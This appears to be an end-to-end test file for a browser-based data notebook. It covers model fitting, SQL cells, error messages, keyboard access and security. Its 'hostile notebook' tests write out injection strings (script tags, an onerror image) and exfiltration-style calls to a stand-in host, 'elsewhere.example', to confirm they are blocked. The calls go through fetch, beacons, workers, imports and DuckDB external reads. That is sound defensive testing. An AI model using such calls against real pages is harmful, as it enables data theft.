import {mkdir, mkdtemp, readdir, writeFile} from "node:fs/promises";
import type {Server} from "node:http";
import {tmpdir} from "node:os";
import {join} from "node:path";
import type {Browser, BrowserContext, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {bundleNotebook} from "../../loaders/site/bundleNotebook.js";
import {contentPolicy} from "../../loaders/site/contentPolicy.js";
import {notebookFile, type WrittenCell} from "../../src/notebook/notebookFile.js";
import {serveSite} from "../../loaders/site/serve.js";
import {launchBrowser} from "../../loaders/site/launchBrowser.js";
import {packed} from "../../src/notebook/live/share.js";
import {atHand, libraries} from "../../src/notebook/atHand.js";
import {ols} from "../../src/notebook/engine.js";

const formula = "margin ~ participation | department_id + fiscal_year";
const rows = Array.from({length: 264}, (_, i) => {
  const [unit, year] = [i % 24, Math.floor(i / 24)];
  const participation = ((i * 7) % 11) / 10;
  const margin = 0.02 * participation + unit / 100 + year / 200 + ((i * 13) % 7) / 1000;
  return {department_id: `D${unit}`, fiscal_year: 2009 + year, participation, margin};
});
const study = {
  title: "Made up",
  measures: [],
  currency: {label: "yen"},
  words: {unit: {one: "department", many: "departments"}},
  programmeYears: [2009, 2019],
  plan: []
};
const script = 'import {openNotebook} from "./runtime/page.js"; openNotebook(document.querySelector("#notebook"));';
const html = (policy: string, code: string): string =>
  `<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="${policy}"><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><main><h1>t</h1><div id="notebook"></div></main><script type="module">${code}</script></body></html>`;

const probe =
  'try { document.title = "ran " + new Function("return 1")(); } catch (error) { document.title = error.name; }';

let browser: Browser;
let server: Server;
let base: string;
let bundled: string[];
const troubles: string[] = [];

beforeAll(async () => {
  const site = await mkdtemp(join(tmpdir(), "longview-notebook-"));
  const runtime = join(site, "notebooks/runtime");
  await mkdir(runtime, {recursive: true});
  await bundleNotebook(runtime);
  bundled = await readdir(runtime);
  const tables = {department_years: {rows, suppressed: {}}};
  await writeFile(join(runtime, "tables.json"), JSON.stringify({version: "0", study, tables}));
  await writeFile(join(runtime, "shipped.json"), "{}");
  await writeFile(
    join(runtime, "help.json"),
    JSON.stringify({docs: [], tables: {department_years: Object.keys(rows[0]!)}})
  );
  await writeFile(join(site, "notebooks/live.html"), html(contentPolicy([script], {notebook: true}), script));
  await writeFile(join(site, "index.html"), html(contentPolicy([probe]), probe));
  server = await serveSite(site);
  const address = server.address();
  base = `http://localhost:${typeof address === "object" && address ? address.port : 0}`;
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser.close();
  server.close();
});

async function open(hash: string, context?: BrowserContext): Promise<Page> {
  const page = await (context ?? (await browser.newContext())).newPage();
  page.on("request", (request) => {
    if (!/^(blob:)?http:\/\/localhost|^data:/.test(request.url())) troubles.push(`foreign: ${request.url()}`);
  });
  await page.goto(`${base}/notebooks/live.html${hash}`);
  await page.waitForSelector(".cell");
  return page;
}

const linkTo = async (cells: readonly WrittenCell[]): Promise<string> =>
  `#code=${await packed(notebookFile("Shared", cells))}`;
const runIt = (page: Page): Promise<void> => page.getByRole("button", {name: "Run this notebook"}).click();
const failures = (page: Page): Promise<string[]> => page.locator(".cell-failure:not([hidden])").allTextContents();

describe("the live notebook", () => {
  it("fits, draws and queries what a reader writes, keeps it, shares it, and a clean profile finds the same digits", async () => {
    const page = await open("");
    const write = async (text: string): Promise<void> => {
      await page.keyboard.type(text.replaceAll("\n", " "));
      await page.keyboard.press("Shift+Enter");
    };
    await page.locator(".cell").nth(0).getByRole("button", {name: "Edit"}).click();
    await page.waitForSelector(".cm-content:focus");
    await write(`const fit = ols("${formula}", tables.department_years, {vcov: "CR2"})`);
    await page.locator(".cell").nth(0).getByRole("button", {name: "Add a JavaScript cell below"}).click();
    await page.locator(".cell").nth(1).locator(".cm-content").waitFor();
    await page.locator(".cell").nth(1).locator(".cm-content").click();
    await write("fit.term('participation').estimate");
    const expected = String(ols(formula, rows, {vcov: "CR2"}).term("participation").estimate);
    await page.locator(".cell").nth(1).locator(".cell-value", {hasText: expected}).waitFor();
    await page.locator(".cell").nth(1).getByRole("button", {name: "Add a SQL cell below"}).click();
    await page.locator(".cell").nth(2).locator(".cm-content").waitFor();
    await page.locator(".cell").nth(2).locator(".cm-content").click();
    await write("SELECT count(*) AS n FROM department_years");
    await page.locator(".cell").nth(2).locator("td, th", {hasText: "264"}).waitFor();
    await page.waitForFunction(() => location.hash.startsWith("#saved="));
    const again = await open(await page.evaluate(() => location.hash), page.context());
    await again.locator(".cell-value", {hasText: expected}).waitFor();
    const file = await page.evaluate(() => {
      const [key] = Object.keys(localStorage);
      return (JSON.parse(localStorage.getItem(key ?? "") ?? "{}") as {file: string}).file;
    });
    const elsewhere = await open(`#code=${await packed(file)}`);
    expect(await elsewhere.locator(".cell-output").allTextContents()).toEqual(["", "", ""]);
    await runIt(elsewhere);
    await elsewhere.locator(".cell-value", {hasText: expected}).waitFor();
    await elsewhere.locator("td, th", {hasText: "264"}).waitFor();
  });

  it("says at which line a cell fails and why, and what waits for it", async () => {
    const page = await open(
      await linkTo([
        {mode: "js", value: "const a = 1;\nconst b = a.foo.bar;"},
        {mode: "js", value: "b + 1"},
        {mode: "js", value: "tabels.department_years"},
        {mode: "js", value: "1 +\n+"}
      ])
    );
    await runIt(page);
    await page.waitForFunction(() => document.querySelectorAll(".cell-failure:not([hidden])").length === 4);
    const [first, second, third, fourth] = await failures(page);
    expect(first).toMatch(/^Line 2: Cannot read properties of undefined/);
    expect(second).toBe("waits for b, whose cell failed");
    expect(third).toBe("Line 1: tabels is not defined; did you mean tables?");
    expect(fourth).toMatch(/^Line 2: /);
  });
});

it("cells that give one name are told so, and run again when one is gone: only those that used it used to be told", async () => {
  const page = await open(
    await linkTo([
      {mode: "js", value: "const a = 2;"},
      {mode: "js", value: "const a = 3;"},
      {mode: "js", value: "a + 1"},
      {mode: "js", value: "tex`x`"}
    ])
  );
  await runIt(page);
  await page.waitForFunction(() => document.querySelectorAll(".cell-failure:not([hidden])").length === 4);
  const [first, second, third, fourth] = await failures(page);
  expect(first).toBe("a is defined in another cell too; give one of them another name");
  expect(second).toBe(first);
  expect(third).toBe("waits for a, whose cell failed");
  expect(fourth).toBe("Line 1: tex is not defined here; formulas are not set here; write them as text");
  page.on("dialog", (dialog) => void dialog.accept());
  await page
    .locator(".cell")
    .nth(1)
    .getByRole("button", {name: /Delete/})
    .click();
  await page.locator(".cell-value", {hasText: "3"}).waitFor();
  expect((await failures(page)).filter((text) => text !== "")).toHaveLength(1);
});

/** Tabs until the focus is on the control that has these words for a name, in that cell where one is given. */
async function reach(page: Page, words: RegExp, cell: number | null = null): Promise<void> {
  for (let turn = 0; turn < 90; turn++) {
    await page.keyboard.press("Tab");
    const [name, place] = await page.evaluate(() => {
      const at = document.activeElement;
      const text = at?.getAttribute("aria-label") ?? at?.closest("label")?.textContent ?? at?.textContent ?? "";
      return [text, Array.from(document.querySelectorAll(".cell")).findIndex((one) => one.contains(at))] as const;
    });
    if (words.test(name) && (cell === null || place === cell)) return;
  }
  throw new Error(`out of the keyboard's reach: ${words}`);
}

describe("by keyboard alone, and with a screen reader", () => {
  it("a notebook is run, a cell edited, left, run, folded, moved and added, and its parts have names", async () => {
    const page = await open(
      await linkTo([
        {mode: "js", value: "1 + 1"},
        {mode: "js", value: "2 + 3"}
      ])
    );
    const cells = page.locator(".cell");
    const press = async (words: RegExp, cell: number | null = null): Promise<void> => {
      await reach(page, words, cell);
      await page.keyboard.press("Enter");
    };
    await press(/^Run this notebook/);
    await cells.nth(1).locator(".cell-value", {hasText: "5"}).waitFor();
    await press(/^Edit$/, 0);
    await page.waitForSelector(".cm-content:focus");
    await page.keyboard.press("Control+A");
    await page.keyboard.type("20 + 1");
    await page.keyboard.press("Shift+Enter");
    await cells.nth(0).locator(".cell-value", {hasText: "21"}).waitFor();
    expect(await page.evaluate(() => document.activeElement?.closest(".cm-content") !== null)).toBe(true);
    await page.keyboard.press("Escape");
    expect(await page.evaluate(() => document.activeElement?.closest(".cm-content") === null)).toBe(true);
    await press(/^Show or fold the code/, 0);
    await press(/^Move down/, 0);
    await cells.nth(1).locator(".cell-value", {hasText: "21"}).waitFor();
    await press(/^Add a Markdown cell below/, 1);
    await cells.nth(2).locator(".cm-content").waitFor();
    await page.waitForSelector(".cm-content:focus");
    await page.keyboard.type("# Seen");
    await page.keyboard.press("Shift+Enter");
    await cells.nth(2).locator("h1", {hasText: "Seen"}).waitFor();
    const tree = await page.locator("main").ariaSnapshot();
    for (const part of [
      /textbox "Title of the notebook"/,
      /region "Cell 1, JavaScript"/,
      /group "Output of cell 2"/,
      /region "Cell 3, Markdown"/,
      /button "Run"/
    ])
      expect(tree).toMatch(part);
    expect(tree.match(/- (button|textbox|combobox|checkbox|region|group)(:|$)/gm)).toBeNull();
  });
});

describe("a cell's tools", () => {
  const dressed = async (): Promise<Page> => {
    const page = await open("");
    for (const name of ["theme", "notebook"]) await page.addStyleTag({path: `src/style/${name}.css`});
    return page;
  };

  it("leave the editor of the cell below free: they used to lie over its first line", async () => {
    const page = await dressed();
    const [first, second] = [page.locator(".cell").first(), page.locator(".cell").nth(1)];
    await first.getByRole("button", {name: "Edit"}).click();
    await page.waitForSelector(".cm-content:focus");
    await page.keyboard.insertText("1 + 1");
    await page.keyboard.press("Shift+Enter");
    await first.locator(".cell-value", {hasText: "2"}).waitFor();
    await first.getByRole("button", {name: "Add a JavaScript cell below"}).click();
    await second.locator(".cm-content").click({timeout: 5000});
    await page.keyboard.insertText("2 + 3");
    await page.keyboard.press("Shift+Enter");
    await second.locator(".cell-value", {hasText: "5"}).waitFor();
    expect(await first.locator(".cell-value").textContent()).toBe("2");
    await page.close();
  });

  it("are two on a phone until the cell is touched, then all", async () => {
    const page = await dressed();
    await page.setViewportSize({width: 375, height: 800});
    const shown = page.locator(".cell-tools button:visible");
    expect(await shown.allTextContents()).toEqual(["Run", "Edit"]);
    await page.locator(".cell").getByRole("button", {name: "Run"}).focus();
    expect(await shown.count()).toBeGreaterThan(6);
    await page.close();
  });
});

describe("a hostile notebook", () => {
  it("shows its code, and runs nothing before it is asked to", async () => {
    const page = await open(await linkTo([{mode: "js", value: "document.title = 'taken'"}]));
    expect(await page.locator(".cell-text").textContent()).toContain("document.title");
    expect(await page.locator(".notebook-warning").textContent()).toContain("has not run");
    await page.locator(".cell").getByRole("button", {name: "Run", exact: true}).click();
    expect(await page.title()).toBe("t");
  });

  it("from a file shows its code and runs nothing; what is no notebook opens nothing", async () => {
    const page = await open("");
    const opening = async (text: string): Promise<void> => {
      const chooser = page.waitForEvent("filechooser");
      await page.getByRole("button", {name: "Open a file"}).click();
      await (await chooser).setFiles({name: "a.html", mimeType: "text/html", buffer: Buffer.from(text)});
    };
    await opening(notebookFile("Theirs", [{mode: "js", value: "document.title = 'taken'"}]));
    await page.locator(".notebook-warning", {hasText: "came from a file and has not run"}).waitFor();
    expect(await page.locator(".cell-text").textContent()).toContain("document.title");
    expect(await page.title()).toBe("t");
    await opening(`<script>document.title = "taken"</script><img src=x onerror="document.title = 'taken'">`);
    await page.waitForTimeout(300);
    expect(await page.title()).toBe("t");
  });

  it("reaches no other origin once it runs: not by fetch, image, script, worker, nor through DuckDB", async () => {
    const elsewhere = "https://elsewhere.example/taken";
    const tries = [
      `fetch("${elsewhere}").then(() => "out", () => "refused")`,
      `new Promise((done) => { const i = new Image(); i.onload = () => done("out"); i.onerror = () => done("refused"); i.src = "${elsewhere}"; })`,
      `new Promise((done) => { const s = document.createElement("script"); s.onload = () => done("out"); s.onerror = () => done("refused"); s.src = "${elsewhere}"; document.head.append(s); })`,
      `navigator.sendBeacon("${elsewhere}", "x"), "refused"`,
      `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${elsewhere}").then(() => postMessage("out"), () => postMessage("refused"))']))); w.onmessage = ({data}) => done(data); })`,
      `new Promise((done) => { try { const w = new Worker("./runtime/worker.js"); w.onerror = () => done("refused"); setTimeout(() => done("out"), 2000); } catch { done("refused"); } })`,
      `db.sql\`SELECT * FROM read_csv('${elsewhere}.csv')\`.then(() => "out", () => "refused")`,
      `db.sql\`SET enable_external_access = true\`.then(() => "out", () => "refused")`,
      `import("${elsewhere}.js").then(() => "out", () => "refused")`
    ];
    const page = await open(await linkTo(tries.map((value) => ({mode: "js", value}))));
    const reached: string[] = [];
    page.on("requestfinished", (request) => reached.push(request.url()));
    await runIt(page);
    await page.waitForFunction(
      (count) => document.querySelectorAll(".cell-value, .cell-failure:not([hidden])").length >= count,
      tries.length,
      {timeout: 60_000}
    );
    const said = await page.locator(".cell-value, .cell-failure:not([hidden])").allTextContents();
    expect(said.filter((text) => text === "out")).toEqual([]);
    expect(reached.filter((url) => url.startsWith("https://elsewhere"))).toEqual([]);
  });

  it("is refused where its link is broken, endless or holds no notebook", async () => {
    const page = await (await browser.newContext()).newPage();
    for (const code of ["%%%", "AAAA", "a".repeat(9000)]) {
      await page.goto(`${base}/notebooks/live.html#code=${code}`);
      await page.reload();
      await page.waitForSelector('#notebook [role="alert"]');
      expect(await page.locator('#notebook [role="alert"]').textContent()).toMatch(/this link/);
    }
  });
});

it("eval is refused on any page that is no notebook", async () => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${base}/index.html`);
  expect(await page.title()).toBe("EvalError");
});

it("bundleNotebook(folder) has every module that pages and cells load by name", () => {
  const named = [
    "page",
    "kept",
    "enliven",
    "offer",
    "lab",
    "worker",
    "sql",
    ...Object.keys(atHand),
    ...Object.values(libraries)
  ];
  expect(named.filter((name) => !bundled.includes(`${name}.js`))).toEqual([]);
});

it("nothing was asked of another origin", () => {
  expect(troubles.filter((url) => !url.includes("elsewhere.example"))).toEqual([]);
});
